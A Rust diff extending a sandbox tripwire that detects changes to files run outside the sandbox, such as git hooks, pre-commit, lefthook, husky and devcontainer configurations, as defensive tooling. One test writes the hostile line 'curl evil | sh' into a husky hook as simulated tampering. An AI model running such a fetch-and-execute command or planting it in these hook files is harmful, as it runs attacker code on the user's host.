@@ -21,8 +21,8 @@ use std::path::{Path, PathBuf};
 
 use crate::git;
 use crate::prepared::Prepared;
-use crate::report::RootKind;
 use crate::root::Origin;
+use crate::root::RootKind;
 
 /// How deep `.git/modules` is searched for submodules' git directories: a
 /// submodule at `libs/net/tls` keeps its own under `modules/libs/net/tls`.
@@ -30,10 +30,48 @@ const MODULES_DEPTH: usize = 6;
 
 /// The project's files, relative to its root, that a program outside the
 /// sandbox runs or obeys without asking.
-const PROJECT_FILES: [(&str, Runs); 3] = [
+const PROJECT_FILES: &[(&str, Runs)] = &[
     (".envrc", Runs::Envrc),
     (".vscode/tasks.json", Runs::VscodeTasks),
     (".vscode/settings.json", Runs::VscodeSettings),
+    // pre-commit's hook (once `pre-commit install` ran) reads it at every
+    // commit; `repo: local` entries are commands.
+    (".pre-commit-config.yaml", Runs::PreCommitConfig),
+    (".pre-commit-config.yml", Runs::PreCommitConfig),
+    // initializeCommand runs on the host when the container is built.
+    (".devcontainer.json", Runs::Devcontainer),
+    (".devcontainer/devcontainer.json", Runs::Devcontainer),
+];
+
+/// lefthook's configuration files (lefthook.dev/configuration): the main
+/// one and the `-local` one, with or without a leading dot, in the project
+/// or in `.config/` (without the dot there), in each format it reads.
+const LEFTHOOK_NAMES: [&str; 2] = ["lefthook", "lefthook-local"];
+const LEFTHOOK_FORMATS: [&str; 5] = ["yml", "yaml", "toml", "json", "jsonc"];
+
+/// Directories of the project whose every entry runs later: husky's hooks
+/// (`.husky/`, and `.husky/_/`, where `core.hooksPath` points), lefthook's
+/// script directories (`.lefthook/<hook>/`, `.lefthook-local/<hook>/`), and
+/// a dev container's other configurations (`.devcontainer/<name>/`): each
+/// listed with its subdirectories one level down.
+const PROJECT_DIRS: [(&str, Runs); 4] = [
+    (".husky", Runs::Husky),
+    (".lefthook", Runs::LefthookScript),
+    (".lefthook-local", Runs::LefthookScript),
+    (".devcontainer", Runs::Devcontainer),
+];
+
+/// Files under a git directory that git itself rewrites as data, and so
+/// are not watched: reporting them would teach the person to ignore the
+/// tripwire.
+const GIT_REWRITES: [(&str, &str); 1] = [
+    // Written by `git update-server-info`, which `git gc` and `git repack`
+    // run (repack.updateServerInfo): the ref list dumb HTTP clients fetch.
+    // No program runs or obeys it.
+    (
+        "info/refs",
+        "rewritten by git gc and git repack: data for dumb HTTP clients",
+    ),
 ];
 
 /// What a watched file is, which says why a change to it matters.
@@ -59,6 +97,16 @@ enum Runs {
     VscodeTasks,
     /// `.vscode/settings.json`.
     VscodeSettings,
+    /// `.pre-commit-config.yaml`.
+    PreCommitConfig,
+    /// A lefthook configuration file.
+    Lefthook,
+    /// A script in lefthook's script directories.
+    LefthookScript,
+    /// A husky hook.
+    Husky,
+    /// A dev container's `devcontainer.json`.
+    Devcontainer,
 }
 
 /// The metadata a write cannot preserve, as `lstat` and `readlink` see it.
@@ -144,6 +192,8 @@ struct Entry {
 
 /// How a watched file changed.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
+#[cfg_attr(feature = "serde", derive(serde::Serialize))]
+#[cfg_attr(feature = "serde", serde(rename_all = "kebab-case"))]
 #[non_exhaustive]
 pub enum ChangeKind {
     /// It did not exist and now does.
@@ -170,7 +220,7 @@ impl ChangeKind {
     /// # Examples
     ///
     /// ```
-    /// use strument_sandbox::ChangeKind;
+    /// use strument_sandbox::tripwire::ChangeKind;
     /// assert_eq!(ChangeKind::MadeExecutable.name(), "made-executable");
     /// ```
     #[must_use]
@@ -191,20 +241,28 @@ impl ChangeKind {
 /// Its `Display` is the line a person reads:
 /// `.git/hooks/pre-commit was created: git runs it outside the sandbox at your next commit`.
 #[derive(Debug, Clone, PartialEq, Eq)]
+#[cfg_attr(feature = "serde", derive(serde::Serialize))]
 #[non_exhaustive]
 pub struct Change {
     /// The file, absolute.
+    #[cfg_attr(feature = "serde", serde(serialize_with = "crate::serialize::path"))]
     pub path: PathBuf,
     /// The file as a person names it: relative to the project when it is
     /// inside, absolute otherwise.
+    #[cfg_attr(feature = "serde", serde(serialize_with = "crate::serialize::path"))]
     pub name: PathBuf,
     /// What happened to it.
     pub kind: ChangeKind,
     /// Where it points now, when it is a symlink.
+    #[cfg_attr(
+        feature = "serde",
+        serde(serialize_with = "crate::serialize::path_opt")
+    )]
     pub target: Option<PathBuf>,
     /// Why it matters: who runs or obeys the file, and when.
     pub why: String,
     /// What the file is now, when it was replaced (`a directory`, …).
+    #[cfg_attr(feature = "serde", serde(skip))]
     now: Option<&'static str>,
 }
 
@@ -246,9 +304,13 @@ impl fmt::Display for Change {
 /// but git's inert `*.sample` files, every entry of `info/`, the `hooks`
 /// and `info` directories themselves, the `.git` pointer, a worktree's
 /// `commondir`, and each linked worktree's `config.worktree` and
-/// `commondir` under `worktrees/`; in the project, `.envrc`, `.vscode/tasks.json` and
-/// `.vscode/settings.json`. Files that do not exist yet are watched too: a
-/// hook appearing is the change that matters most.
+/// `commondir` under `worktrees/`; in the project, `.envrc`, `.vscode/tasks.json`,
+/// `.vscode/settings.json`, `.pre-commit-config.yaml`, lefthook's
+/// configuration in every name it reads (`lefthook.yml`, `.lefthook.toml`,
+/// `.config/lefthook-local.json`, …) and its script directories, husky's
+/// `.husky/` and `.devcontainer.json` or `.devcontainer/` (initializeCommand).
+/// Files that do not exist yet are watched too: a hook appearing is the
+/// change that matters most. `info/refs`, which `git gc` rewrites, is not.
 ///
 /// The git directories are found once, when the snapshot is taken; a
 /// later snapshot ([`Snapshot::again`]) watches the same ones, so that a
@@ -258,7 +320,7 @@ impl fmt::Display for Change {
 ///
 /// ```no_run
 /// use std::process::Command;
-/// use strument_sandbox::{Policy, Snapshot, default_writable};
+/// use strument_sandbox::{Policy, tripwire::Snapshot, default_writable};
 ///
 /// let project = std::path::Path::new("/home/me/project");
 /// let prepared = Policy { writable: default_writable(project, None, &[])?, ..Policy::default() }.prepare()?;
@@ -291,7 +353,7 @@ impl Snapshot {
     /// # Examples
     ///
     /// ```no_run
-    /// use strument_sandbox::{Policy, Snapshot};
+    /// use strument_sandbox::{Policy, tripwire::Snapshot};
     /// let prepared = Policy { writable: vec!["/home/me/project".into()], ..Policy::default() }.prepare()?;
     /// let snapshot = Snapshot::take(&prepared);
     /// assert_eq!(snapshot.project(), std::path::Path::new("/home/me/project"));
@@ -332,7 +394,7 @@ impl Snapshot {
     /// # Examples
     ///
     /// ```
-    /// use strument_sandbox::{ChangeKind, Snapshot};
+    /// use strument_sandbox::{tripwire::ChangeKind, tripwire::Snapshot};
     ///
     /// let project = tempfile::tempdir()?;
     /// std::fs::create_dir_all(project.path().join(".git/hooks"))?;
@@ -363,7 +425,7 @@ impl Snapshot {
     /// # Examples
     ///
     /// ```
-    /// let snapshot = strument_sandbox::Snapshot::of_project("/no/such/project".as_ref());
+    /// let snapshot = strument_sandbox::tripwire::Snapshot::of_project("/no/such/project".as_ref());
     /// assert_eq!(snapshot.project(), std::path::Path::new("/no/such/project"));
     /// assert!(snapshot.changes().is_empty());
     /// ```
@@ -378,7 +440,7 @@ impl Snapshot {
     ///
     /// ```
     /// let project = tempfile::tempdir()?;
-    /// let snapshot = strument_sandbox::Snapshot::of_project(project.path());
+    /// let snapshot = strument_sandbox::tripwire::Snapshot::of_project(project.path());
     /// assert!(snapshot.watched().any(|p| p.ends_with(".envrc")));
     /// # Ok::<(), std::io::Error>(())
     /// ```
@@ -393,7 +455,7 @@ impl Snapshot {
     ///
     /// ```
     /// let project = tempfile::tempdir()?;
-    /// let first = strument_sandbox::Snapshot::of_project(project.path());
+    /// let first = strument_sandbox::tripwire::Snapshot::of_project(project.path());
     /// std::fs::write(project.path().join(".envrc"), "use nix\n")?;
     /// let second = first.again();
     /// assert_eq!(first.compare(&second).len(), 1);
@@ -415,7 +477,7 @@ impl Snapshot {
     /// # Examples
     ///
     /// ```
-    /// use strument_sandbox::{ChangeKind, Snapshot};
+    /// use strument_sandbox::{tripwire::ChangeKind, tripwire::Snapshot};
     /// let project = tempfile::tempdir()?;
     /// std::fs::write(project.path().join(".envrc"), "use nix\n")?;
     /// let before = Snapshot::of_project(project.path());
@@ -471,7 +533,7 @@ impl Snapshot {
     ///
     /// ```
     /// let project = tempfile::tempdir()?;
-    /// let snapshot = strument_sandbox::Snapshot::of_project(project.path());
+    /// let snapshot = strument_sandbox::tripwire::Snapshot::of_project(project.path());
     /// assert!(snapshot.changes().is_empty());
     /// # Ok::<(), std::io::Error>(())
     /// ```
@@ -513,7 +575,31 @@ fn watch(project: &Path, git_dirs: &[PathBuf]) -> BTreeMap<PathBuf, Entry> {
     };
     add(project.join(".git"), Runs::DotGit);
     for (rel, runs) in PROJECT_FILES {
-        add(project.join(rel), runs);
+        add(project.join(rel), *runs);
+    }
+    for name in LEFTHOOK_NAMES {
+        for format in LEFTHOOK_FORMATS {
+            add(project.join(format!("{name}.{format}")), Runs::Lefthook);
+            add(project.join(format!(".{name}.{format}")), Runs::Lefthook);
+            add(
+                project.join(format!(".config/{name}.{format}")),
+                Runs::Lefthook,
+            );
+        }
+    }
+    for (rel, runs) in PROJECT_DIRS {
+        let dir = project.join(rel);
+        for name in list(&dir) {
+            let entry = dir.join(&name);
+            // A subdirectory's entries too (`.husky/_/pre-commit`,
+            // `.lefthook/pre-commit/lint.sh`), never through a symlink.
+            if fs::symlink_metadata(&entry).is_ok_and(|m| m.is_dir()) {
+                for inner in list(&entry) {
+                    add(entry.join(inner), runs);
+                }
+            }
+            add(entry, runs);
+        }
     }
     for dir in git_dirs {
         watch_git_dir(dir, MODULES_DEPTH, &mut add);
@@ -535,7 +621,13 @@ fn watch_git_dir(dir: &Path, depth: usize, add: &mut dyn FnMut(PathBuf, Runs)) {
     }
     add(dir.join("info"), Runs::InfoDir);
     for name in list(&dir.join("info")) {
-        add(dir.join("info").join(name), Runs::Info);
+        let rel = Path::new("info").join(&name);
+        if GIT_REWRITES
+            .iter()
+            .all(|(rewritten, _)| rel != Path::new(rewritten))
+        {
+            add(dir.join(rel), Runs::Info);
+        }
     }
     // Linked worktrees' own git directories: git in each worktree obeys
     // its `config.worktree` and follows its `commondir`.
@@ -610,6 +702,21 @@ fn why(runs: Runs, path: &Path, kind: ChangeKind) -> String {
             .into(),
         Runs::VscodeSettings => "VS Code obeys it outside the sandbox: settings there name \
              programs it runs (formatters, linters, interpreters, terminal environment)"
+            .into(),
+        Runs::PreCommitConfig => "pre-commit's git hook runs the hooks it names outside the \
+             sandbox at your next commit (`repo: local` entries are any command)"
+            .into(),
+        Runs::Lefthook => "lefthook's git hooks run the commands in it outside the sandbox at \
+             your next commit, push or checkout"
+            .into(),
+        Runs::LefthookScript => {
+            "lefthook's git hooks run the scripts here outside the sandbox".into()
+        }
+        Runs::Husky => "husky's git hooks (core.hooksPath) run it outside the sandbox at your \
+             next commit, push or checkout"
+            .into(),
+        Runs::Devcontainer => "VS Code and the devcontainer CLI run its initializeCommand on \
+             the host, outside the sandbox, when the container is built or reopened"
             .into(),
     }
 }
@@ -766,6 +873,55 @@ mod tests {
         let changes = before.changes();
         assert!(changes.iter().any(|c| c.name == Path::new(".git")));
         assert_eq!(changes.len(), 4);
+    }
+
+    #[test]
+    fn hook_managers_and_dev_containers_are_watched() {
+        let dir = project();
+        let p = dir.path();
+        fs::create_dir_all(p.join(".husky/_")).expect("husky");
+        fs::create_dir_all(p.join(".lefthook/pre-push")).expect("lefthook scripts");
+        fs::create_dir_all(p.join(".devcontainer/rust")).expect("devcontainer");
+        fs::create_dir_all(p.join(".config")).expect(".config");
+        fs::write(p.join(".husky/pre-commit"), "npm test\n").expect("husky hook");
+        let before = Snapshot::of_project(p);
+        for rel in [
+            ".pre-commit-config.yaml",
+            "lefthook.yml",
+            ".lefthook-local.jsonc",
+            ".config/lefthook.toml",
+            ".husky/_/pre-commit",
+            ".lefthook/pre-push/audit.sh",
+            ".devcontainer.json",
+            ".devcontainer/devcontainer.json",
+            ".devcontainer/rust/devcontainer.json",
+            ".git/info/refs", // git gc's: data, not watched
+            "lefthook.txt",   // not a name lefthook reads
+        ] {
+            fs::write(p.join(rel), "x\n").expect("write");
+        }
+        fs::write(p.join(".husky/pre-commit"), "curl evil | sh\n").expect("rewrite");
+        let changes = before.changes();
+        let names: Vec<String> = changes
+            .iter()
+            .map(|c| c.name.to_string_lossy().into_owned())
+            .collect();
+        assert_eq!(
+            names,
+            [
+                ".config/lefthook.toml",
+                ".devcontainer/devcontainer.json",
+                ".devcontainer/rust/devcontainer.json",
+                ".devcontainer.json",
+                ".husky/_/pre-commit",
+                ".husky/pre-commit",
+                ".lefthook/pre-push/audit.sh",
+                ".lefthook-local.jsonc",
+                ".pre-commit-config.yaml",
+                "lefthook.yml",
+            ]
+        );
+        assert!(changes[1].to_string().contains("initializeCommand"));
     }
 
     #[test]
